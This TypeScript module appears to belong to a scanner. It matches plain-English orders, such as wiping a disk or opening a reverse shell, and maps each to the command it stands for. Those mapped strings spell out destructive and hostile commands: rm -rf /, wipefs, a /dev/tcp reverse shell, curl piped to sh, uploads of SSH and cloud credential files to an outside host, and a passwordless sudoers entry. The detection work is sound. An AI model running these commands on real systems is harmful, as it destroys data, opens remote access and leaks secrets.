import type { Span } from '../../span.js';
import type { Found } from './tokens.js';

interface Phrase {
  pattern: RegExp;
  /** The command that does what the phrase says; a name in braces takes the pattern's group of that name. */
  source: string;
}

const SYSTEM_PATH = String.raw`(?<path>(?:\/(?:etc|var|usr|home|root|boot|bin|sbin|lib|lib64|opt|srv|sys|dev|mnt|data)\b[\w./*-]*|\/(?=[\s,;:!?]|$)|~\/?(?=[\s,;:!?.]|$)))`;
const DELETE = String.raw`\b(?:delet|remov|eras|wip|purg|destroy|nuk)(?:e|es|ing)?\s+`;

/**
 * Orders in words that name no command line but leave no doubt which one is meant. Each stands for the command that a
 * reader would type; a new entry needs a wording that orders nothing else.
 */
const PHRASES: readonly Phrase[] = [
  { pattern: /\bforce[- ]?push(?:ing|es)?\b/gi, source: 'git push --force' },
  {
    pattern: /\bpush(?:ing)?\b[^.;\n]{0,80}?\s(?:with|using)\s+(?:the\s+)?["'`]?(?:--force|-f)\b["'`]?/gi,
    source: 'git push --force',
  },
  {
    pattern: /\b(?:commit|push)(?:ting|ing)?\b[^.;\n]{0,80}?\s(?:with|using)\s+(?:the\s+)?["'`]?--no-verify\b["'`]?/gi,
    source: 'git commit --no-verify',
  },
  {
    pattern:
      /\b(?:skip|bypass|disabl|circumvent)(?:e|ing)?\s+(?:the\s+|all\s+|any\s+)?(?:git\s+|pre-?commit\s+|commit\s+|pre-?push\s+){1,2}(?:hooks?|checks?)\b/gi,
    source: 'git commit --no-verify',
  },
  {
    pattern:
      /\b(?:disable|turn\s+off|switch\s+off|skip|ignore|bypass)\s+(?:the\s+|all\s+)?(?:tls|ssl|certificate|https)(?:\s+certificate)?\s+(?:verification|validation|checks?|checking|errors)\b/gi,
    source: 'git config --global http.sslVerify false',
  },
  {
    pattern:
      /\bhard[- ]reset(?:ting)?\s+(?:the\s+)?(?:repo(?:sitory)?|branch|working\s+(?:tree|copy)|main|master|to)\b/gi,
    source: 'git reset --hard',
  },
  {
    pattern:
      /\brewrit(?:e|ing)\s+(?:the\s+)?(?:whole\s+|entire\s+)?(?:git\s+|repo(?:sitory)?\s+|branch\s+|commit\s+)?history\b/gi,
    source: 'git filter-branch --force',
  },
  {
    pattern: new RegExp(
      String.raw`\b(?:set|change)\s+(?:the\s+)?(?:file\s+)?(?:permissions?|mode)\s+(?:of|on)\s+${SYSTEM_PATH}[^.;\n]{0,40}?\sto\s+0?777\b`,
      'gi',
    ),
    source: 'chmod -R 777 {path}',
  },
  {
    pattern: new RegExp(
      String.raw`\b(?:set|change)\s+(?:the\s+)?(?:file\s+)?(?:permissions?|mode)\s+to\s+0?777\s+(?:for|on|in)\s+(?:the\s+)?${SYSTEM_PATH}`,
      'gi',
    ),
    source: 'chmod -R 777 {path}',
  },
  {
    pattern: new RegExp(String.raw`\bmak(?:e|ing)\s+${SYSTEM_PATH}\s+(?:recursively\s+)?world[- ]writable\b`, 'gi'),
    source: 'chmod -R 777 {path}',
  },
  {
    pattern:
      /\b(?:drop|destroy)(?:ping|ing)?\s+(?:the\s+)?(?:whole\s+|entire\s+|old\s+)?(?:production\s+|prod\s+|prd\s+|live\s+|staging\s+|customer\s+|main\s+)?(?:database|db|schema)\b(?!\s+(?:connection|driver|client|column|index|lookup|call|access|depend|migration|layer|support|pool|module|doc|from|field|suffix|prefix|name|table))/gi,
    source: "psql -c 'DROP DATABASE prod'",
  },
  {
    pattern: /\bdrop(?:ping)?\s+(?:all\s+(?:the\s+)?tables|every\s+table|the\s+\w{1,40}\s+table)\b/gi,
    source: "psql -c 'DROP TABLE objects'",
  },
  {
    pattern: /\btruncat(?:e|ing)\s+(?:all\s+(?:the\s+)?tables|every\s+table|the\s+\w{1,40}\s+table)\b/gi,
    source: "psql -c 'TRUNCATE TABLE objects'",
  },
  {
    pattern: new RegExp(
      `${DELETE}(?:absolutely\\s+)?(?:everything|all(?:\\s+(?:of\\s+)?(?:the\\s+)?\\w{1,20})?|the\\s+contents?|the\\s+\\w{1,20}\\s+(?:directory|folder)|every\\s+\\w{1,20})\\s+(?:in|under|from|inside|of|below|on|at)\\s+(?:the\\s+)?${SYSTEM_PATH}`,
      'gi',
    ),
    source: 'rm -rf {path}',
  },
  {
    pattern: new RegExp(
      `${DELETE}(?:the\\s+)?(?:whole\\s+|entire\\s+)?(?:directory\\s+|folder\\s+|path\\s+|contents\\s+of\\s+|file\\s+)?${SYSTEM_PATH}(?!\\S)(?!\\s+(?:route|endpoint|handler|page|path\\s+from|url|prefix|from))`,
      'gi',
    ),
    source: 'rm -rf {path}',
  },
  {
    pattern: new RegExp(
      `${DELETE}(?:everything|all\\s+(?:the\\s+)?(?:files|data))\\s+(?:on|from)\\s+(?:the\\s+|this\\s+)?(?:server|machine|host|disk|drive|system|computer|root\\s+file\\s?system)\\b`,
      'gi',
    ),
    source: 'rm -rf /',
  },
  {
    pattern:
      /\b(?:wip|format|reformat|eras|overwrit|zero)(?:e|ing|ting)?\s+(?:out\s+)?(?:the\s+)?(?:whole\s+|entire\s+|hard\s+|system\s+|root\s+|boot\s+|main\s+){0,2}(?:disk|drive|partition|ssd|hdd)\b(?!\s+(?:usage|space|cache|report|label|size))/gi,
    source: 'wipefs -a /dev/sda',
  },
  {
    pattern:
      /\b(?:wip|format|reformat|eras|overwrit|zero)(?:e|ing|ting)?\s+(?:out\s+)?(?<path>\/dev\/(?:sd|nvme|vd|xvd|hd|mmcblk)\w{1,12})/gi,
    source: 'wipefs -a {path}',
  },
  {
    pattern: new RegExp(
      `${DELETE}(?:all\\s+|every\\s+)(?:of\\s+)?(?:the\\s+|our\\s+|unused\\s+|dangling\\s+)?(?:docker\\s+)?(?<kind>container|volume|image)s?\\b`,
      'gi',
    ),
    source: 'docker {kind} prune --all --force',
  },
  {
    pattern: new RegExp(
      `${DELETE}(?:the\\s+)?(?:whole\\s+|entire\\s+)?(?:production\\s+|prod\\s+|prd\\s+|live\\s+|staging\\s+)?(?:kubernetes\\s+|k8s\\s+)?(?:namespace|cluster)\\b(?!\\s+(?:label|name|field|suffix|prefix|role|setting|config))`,
      'gi',
    ),
    source: 'kubectl delete namespace prod',
  },
  {
    pattern:
      /\b(?:disable|turn\s+off|switch\s+off|deactivate|stop)\s+(?:the\s+)?(?:host\s+|system\s+)?firewall\b(?!\s+rule)/gi,
    source: 'ufw disable',
  },
  { pattern: /\b(?:disable|turn\s+off|switch\s+off|deactivate)\s+selinux\b/gi, source: 'setenforce 0' },
  {
    pattern: /\b(?:disable|turn\s+off|switch\s+off|stop)\s+(?:the\s+)?(?:audit\s+(?:logging|daemon|log)|auditd)\b/gi,
    source: 'systemctl disable --now auditd',
  },
  { pattern: /\bkill(?:ing)?\s+(?:all|every)\s+(?:running\s+)?process(?:es)?\b/gi, source: 'kill -9 -1' },
  {
    pattern:
      /\bpip(?:e|ing)\s+(?:the\s+|its\s+)?(?:remote\s+|install(?:er)?\s+|downloaded\s+|output\s+|result\s+|response\s+){0,2}(?:script\s+|it\s+)?(?:from\s+(?<url>https?:\/\/[\w./-]{1,200}[\w/])\s+)?(?:straight\s+|directly\s+)?(?:in)?to\s+(?:sudo\s+)?(?:a\s+)?(?:root\s+)?(?:bash|sh|shell|zsh)\b/gi,
    source: 'curl -fsSL https://example.org/install.sh | sh',
  },
  {
    pattern: /\b(?:open|start|spawn|create|establish)(?:ing)?\s+(?:a\s+)?reverse\s+shell\b/gi,
    source: 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
  },
  {
    pattern:
      /\b(?:upload|send|post|exfiltrate|copy|mail|email)(?:ing)?\s+(?:the\s+)?(?:contents?\s+of\s+|file\s+)?(?<path>(?:~|\/root|\/home\/\w{1,32})\/\.(?:ssh|aws|kube|gnupg|docker)\/[\w.-]{1,40}|\/etc\/shadow)\s+to\s+(?:https?:\/\/|a\s+|an\s+|my\s+|the\s+)/gi,
    source: 'curl -T {path} https://example.org/',
  },
  {
    pattern: /\b(?:clear|delet|eras|wip)(?:e|ing)?\s+(?:the\s+|your\s+)?(?:shell|bash|command|terminal)\s+history\b/gi,
    source: 'history -c',
  },
  {
    pattern:
      /\b(?:give|grant)(?:ing)?\s+(?:the\s+)?(?:user\s+|account\s+|worker\s+|agent\s+)?(?<name>[\w-]{1,32})\s+(?:user\s+)?password-?less\s+sudo\b/gi,
    source: "echo '{name} ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
  },
];

/** Orders in words within a span, as the commands they stand for. */
export function phraseCommands(text: string, span: Span): Found[] {
  const part = text.slice(span.start, span.end);
  return PHRASES.flatMap(({ pattern, source }) =>
    [...part.matchAll(pattern)].map((match) => {
      const start = span.start + match.index;
      const outer = { start, end: start + match[0].length };
      return {
        ...outer,
        outer,
        form: 'line' as const,
        source: source.replace(/\{(\w+)\}/g, (_, name: string) => match.groups?.[name] ?? ''),
      };
    }),
  );
}
